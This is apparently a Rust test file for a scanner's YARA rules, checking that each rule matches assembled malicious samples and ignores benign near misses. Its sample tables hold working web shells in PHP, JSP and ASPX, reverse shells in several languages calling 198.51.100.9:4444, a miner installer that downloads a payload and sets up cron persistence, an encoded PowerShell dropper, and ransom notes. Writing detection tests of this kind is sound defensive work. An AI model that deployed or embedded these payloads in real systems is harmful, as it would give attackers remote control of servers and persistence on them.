//! The rules in `rules/yara`: each finds what it is for and not its near misses. Samples are put together here from
//! parts, so that no file of this repository is taken for one of them.

mod support;

use std::collections::BTreeSet;
use std::path::Path;

use canh_yara::{RuleFiles, SampleInfo, ScanLimits, Scanner};

fn rules() -> Scanner {
    let compiled = RuleFiles::load([Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/yara")]).compile();
    assert_eq!(compiled.problems, []);
    compiled.scanner
}

fn matching(scanner: &Scanner, path: &str, bytes: &[u8]) -> BTreeSet<String> {
    let report = scanner.scan(bytes, &SampleInfo::of_path(path), &ScanLimits::default());
    report.matches.into_iter().map(|found| found.rule).collect()
}

/// The rule, the path of the sample, and its parts.
type Row = (&'static str, &'static str, &'static [&'static str]);

const BASE64: &str = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVowMTIzNDU2Nzg5QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVow\
    MTIzNDU2Nzg5QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVowMTIzNDU2Nzg5QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVowMTIzNDU2Nzg5QUJDREVG\
    R0hJSktMTU5PUFFSU1RVVldYWVow";

const FOUND: &[Row] = &[
    (
        "eicar_test_file",
        "eicar.com",
        &["X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"],
    ),
    ("web_shell_php_request_runs", "a.php", &["<?php @ev", "al($_POST['x']); ?>"]),
    ("web_shell_php_request_runs", "a.php", &["<?= sys", "tem(base64_decode($_REQUEST[\"c\"]));"]),
    ("web_shell_php_request_runs", "a.jpg", &["\u{fffd}JFIF <?php $_GET['f']", "($_POST['a']); ?>"]),
    ("web_shell_php_request_runs", "a.php", &["<?php echo `ls ", "$_GET[d]`;"]),
    ("web_shell_php_packed_code", "b.php", &["<?php ev", "al(gzinflate(base64_decode('", BASE64, "')));"]),
    (
        "web_shell_jsp_command",
        "/opt/tomcat/webapps/ROOT/x.jsp",
        &[
            "<%@ page import=\"java.io.*\" %><% Process p = Runtime.get",
            "Runtime().exec(request.getParameter(\"c\")); %>",
        ],
    ),
    (
        "web_shell_jsp_command",
        "y.jsp",
        &["<% byte[] b = decode(request.getReader().readLine()); new U(this).define", "Class(b, 0, b.length); %>"],
    ),
    (
        "web_shell_aspx_command",
        "z.aspx",
        &["<%@ Page Language=\"Jscript\"%><%ev", "al(Request.Item[\"p\"],\"unsafe\");%>"],
    ),
    (
        "web_shell_aspx_command",
        "z.aspx",
        &["<%@ Page Language=\"C#\"%><% var i = new Process", "StartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"],
    ),
    ("web_shell_php_callback", "c.php", &["<?php array_map('ass", "ert', array($_POST['x'])); ?>"]),
    ("web_shell_php_callback", "c.php", &["<?php usort($_GET['a'], 'sys", "tem'); ?>"]),
    ("web_shell_php_callback", "c.php", &["<?php $f = 'ass'.'ert'; $f", "($_REQUEST['k']);"]),
    ("web_shell_php_includes_request", "i.php", &["<?php @incl", "ude($_GET['page']); ?>"]),
    ("web_shell_php_includes_request", "i.php", &["<?php requ", "ire_once 'php://input'; /* ", "*/ ?>"]),
    (
        "web_shell_php_writes_request",
        "w.php",
        &["<?php file_put_", "contents($_POST['n'], base64_decode($_POST['c'])); ?>"],
    ),
    (
        "web_shell_jsp_writes_request",
        "w.jsp",
        &[
            "<% new java.io.FileOutput",
            "Stream(application.getRealPath(\"/\") + request.getParameter(\"f\")).write(request.getParameter(\"t\").getBytes()); %>",
        ],
    ),
    (
        "web_shell_aspx_writes_request",
        "w.aspx",
        &[
            "<%@ Page Language=\"C#\" %><% System.IO.File.WriteAll",
            "Text(Server.MapPath(Request[\"f\"]), Request[\"t\"]); %>",
        ],
    ),
    (
        "web_shell_config_runs_scripts",
        "web.config",
        &[
            "<configuration><system.webServer><handlers><add name=\"x\" path=\"*.config\" verb=\"*\" scriptProc",
            "essor=\"%windir%\\system32\\inetsrv\\asp.dll\" /></handlers></system.webServer></configuration>",
        ],
    ),
    ("web_shell_config_runs_scripts", ".htaccess", &["AddType application/x-httpd-", "php .jpg\n"]),
    (
        "miner_settings",
        "config.json",
        &[
            "{\"pools\": [{\"url\": \"strat",
            "um+tcp://pool.example:3333\", \"user\": \"4",
            "8\", \"pass\": \"x\"}], \"algo\": \"rx/0\"}",
        ],
    ),
    (
        "miner_settings",
        "run.sh",
        &["#!/bin/sh\n./x --donate-", "level 1 -o pool.example:3333 --coin=monero --cpu-priority 0"],
    ),
    (
        "miner_program",
        "kworkerds",
        &["\u{7f}ELF\u{2}\u{1}\u{1} strat", "um+tcp:// mining.sub", "scribe cryptonight randomx --donate-level"],
    ),
    (
        "miner_installs_itself",
        "i.sh",
        &[
            "#!/bin/sh\npkill -9 xm",
            "rig; curl -s http://198.51.100.9/x -o /tmp/x\n(cron",
            "tab -l; echo '* * * * * /tmp/x') | cron",
            "tab -\n",
        ],
    ),
    ("reverse_shell_script", "r.sh", &["#!/bin/bash\nba", "sh -i >& /dev/", "tcp/198.51.100.9/4444 0>&1"]),
    (
        "reverse_shell_script",
        "r.sh",
        &["rm /tmp/f; mkfi", "fo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n", "c 198.51.100.9 4444 > /tmp/f"],
    ),
    (
        "reverse_shell_script",
        "r.py",
        &[
            "import socket,os,pty\ns=socket.socket(); s.conn",
            "ect((\"198.51.100.9\",4444))\nos.du",
            "p2(s.fileno(),0); os.dup2(s.fileno(),1)\npty.spa",
            "wn(\"/bin/sh\")",
        ],
    ),
    (
        "reverse_shell_script",
        "r.pl",
        &[
            "use Socket; socket(S,PF_INET,SOCK_STREAM,6); conn",
            "ect(S,sockaddr_in(4444,inet_aton('198.51.100.9'))); open(STD",
            "IN,\">&S\"); open(STDOUT,\">&S\"); exec(\"/bin/sh -i\");",
        ],
    ),
    (
        "reverse_shell_script",
        "r.php",
        &[
            "<?php $s = fsock",
            "open('198.51.100.9', 4444); proc_",
            "open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $p); ?>",
        ],
    ),
    (
        "reverse_shell_powershell",
        "r.ps1",
        &[
            "$c = New-Object System.Net.Sockets.TCP",
            "Client('198.51.100.9',4444); $s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $r = (i",
            "ex $d 2>&1 | Out-String ); $s.Write($r,0,$r.Length)}",
        ],
    ),
    ("elf_as_web_script", "/var/www/html/anh.php", &["\u{7f}ELF\u{2}\u{1}\u{1}"]),
    ("elf_as_web_script", "/opt/tomcat/webapps/ROOT/upload/x", &["\u{7f}ELF\u{2}\u{1}\u{1}"]),
    (
        "script_carries_elf",
        "run.sh",
        &[
            "#!/bin/sh\necho f0VM",
            "RgIBAQAAAAAAAAAAAAIAPgABAAAAgAhAAAAAAABAAAAAAAAAAAA | base64 -d > /tmp/x; chmod +x /tmp/x",
        ],
    ),
    (
        "script_carries_elf",
        "a.php",
        &["<?php file_put_contents('/tmp/a', \"\\x7f", "\\x45\\x4c\\x46\\x02\\x01\\x01\"); ?>"],
    ),
    (
        "powershell_encoded_dropper",
        "a.bat",
        &[
            "powershell.exe -nop -w hidden -en",
            "c SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA==",
        ],
    ),
    (
        "powershell_encoded_dropper",
        "a.ps1",
        &["$d=[Convert]::FromBase64", "String($x); I", "EX (New-Object IO.Compression.Gzip", "Stream($d))"],
    ),
    ("program_named_like_a_document", "Bao cao.pdf   .exe", &["MZ\u{90}"]),
    (
        "ransom_note",
        "READ_ME.txt",
        &["All your files have been encrypted.\nTo get the decryption key pay 2 BTC.\nDo not rename them."],
    ),
    (
        "ransom_note",
        "HUONG_DAN.txt",
        &[
            "Toàn bộ dữ liệu trên máy chủ này đã bị mã hóa. Muốn có khóa giải mã hãy trả tiền chuộc. Đừng tự giải mã; dùng Tor Browser.",
        ],
    ),
    (
        "ransom_note",
        "doc.txt",
        &["May chu va du lieu cua ban da bi ma hoa. Tien chuoc: 1 bitcoin. Lien he abc@onionmail.org"],
    ),
];

const NOT_FOUND: &[Row] = &[
    ("", "eicar.md", &["The file says $EICAR-STANDARD-ANTIVIRUS-TEST-FILE! somewhere in the middle of a text."]),
    ("", "safe.php", &["<?php $id = intval($_GET['id']); echo htmlspecialchars(system_name($id)); ?>"]),
    ("", "sort.php", &["<?php usort($rows, 'compare_dates'); array_map('trim', $_POST['names']); ?>"]),
    ("", "menu.php", &["<?php $pages = ['a' => 'a.php']; include $pages[$_GET['page']] ?? 'a.php'; ?>"]),
    (
        "",
        "upload.php",
        &["<?php move_uploaded_file($_FILES['f']['tmp_name'], $target); file_put_contents('log.txt', $line); ?>"],
    ),
    (
        "",
        "export.jsp",
        &[
            "<% FileOutputStream out = new FileOutputStream(report); out.write(bytes); String n = request.getParameter(\"n\"); %>",
        ],
    ),
    (
        "",
        "save.aspx",
        &["<%@ Page Language=\"C#\" %><% File.WriteAllText(path, Server.HtmlEncode(note)); var q = Request[\"q\"]; %>"],
    ),
    (
        "",
        "web.config",
        &[
            "<configuration><handlers><add name=\"php\" path=\"*.php\" scriptProcessor=\"C:\\php\\php-cgi.exe\" /></handlers></configuration>",
        ],
    ),
    ("", ".htaccess", &["AddType application/x-httpd-php .php\nAddType image/webp .webp\n"]),
    (
        "",
        "pools.json",
        &["{\"pools\": [{\"url\": \"postgres://db.example:5432\", \"user\": \"app\", \"pass\": \"x\"}]}"],
    ),
    ("", "/usr/bin/report", &["\u{7f}ELF\u{2}\u{1}\u{1} data mining subscribe stratum of rocks"]),
    (
        "",
        "cron.sh",
        &[
            "#!/bin/sh\n(crontab -l; echo '0 2 * * * /usr/local/bin/backup') | crontab -\ncurl -fsS https://example.org/ping\n",
        ],
    ),
    (
        "",
        "wait.sh",
        &["#!/bin/bash\nuntil echo > /dev/tcp/db/5432; do sleep 1; done\nmkfifo /run/log; nc -z db 5432\n"],
    ),
    ("", "client.py", &["import socket, os, pty\ns = socket.create_connection(('db', 5432)); s.send(b'x')\n"]),
    ("", "port.ps1", &["$c = New-Object System.Net.Sockets.TcpClient('db', 5432); $c.Connected; $c.Close()"]),
    ("", "manual.md", &["Never write eval($_POST['x']) in a page."]),
    ("", "thumb.php", &["<?php $data = base64_decode('", BASE64, "'); imagecreatefromstring($data);"]),
    (
        "",
        "list.jsp",
        &["<%@ page import=\"java.util.*\" %><% String q = request.getParameter(\"q\"); out.print(escape(q)); %>"],
    ),
    ("", "Job.java", &["class Job { void run() { Runtime.getRuntime().exec(\"ls\"); request.getParameter(\"a\"); } }"]),
    ("", "ok.aspx", &["<%@ Page Language=\"C#\"%><% Response.Write(Server.HtmlEncode(Request[\"c\"])); %>"]),
    ("", "/usr/bin/ls", &["\u{7f}ELF\u{2}\u{1}\u{1}"]),
    ("", "install.sh", &["#!/bin/sh\necho SGVsbG8= | base64 -d\n"]),
    ("", "setup.ps1", &["Invoke-WebRequest https://example.org/a.msi -OutFile a.msi; Start-Process a.msi"]),
    ("", "report.pdf.txt", &["MZ is how programs begin"]),
    ("", "setup.exe", &["MZ\u{90}"]),
    ("", "policy.txt", &["Backups are encrypted. Do not rename them. Keys are with the administrator."]),
    ("", "tin.txt", &["Dữ liệu được mã hóa khi truyền. Thanh toán trực tuyến qua cổng dịch vụ công."]),
];

#[track_caller]
fn check(scanner: &Scanner, row: &Row) {
    let (rule, path, parts) = row;
    let found = matching(scanner, path, parts.concat().as_bytes());
    let expected: BTreeSet<String> = [*rule].iter().filter(|rule| !rule.is_empty()).map(ToString::to_string).collect();
    assert_eq!(found, expected, "sample `{path}`: {parts:?}");
}

#[test]
fn every_rule_finds_what_it_is_for_and_nothing_else() {
    let scanner = rules();
    FOUND.iter().for_each(|row| check(&scanner, row));
    let tested: BTreeSet<&str> = FOUND.iter().map(|(rule, ..)| *rule).collect();
    assert_eq!(tested.len(), scanner.rule_count(), "a rule has no sample");
}

#[test]
fn no_rule_finds_its_near_misses() {
    let scanner = rules();
    NOT_FOUND.iter().for_each(|row| check(&scanner, row));
}

/// Text of Windows is often UTF-16.
#[test]
fn texts_in_utf16_are_found_too() {
    let scanner = rules();
    let text = "All your files have been encrypted. Send 2 BTC. Do not modify anything.";
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(matching(&scanner, "a.txt", &wide), BTreeSet::from(["ransom_note".to_owned()]));
}
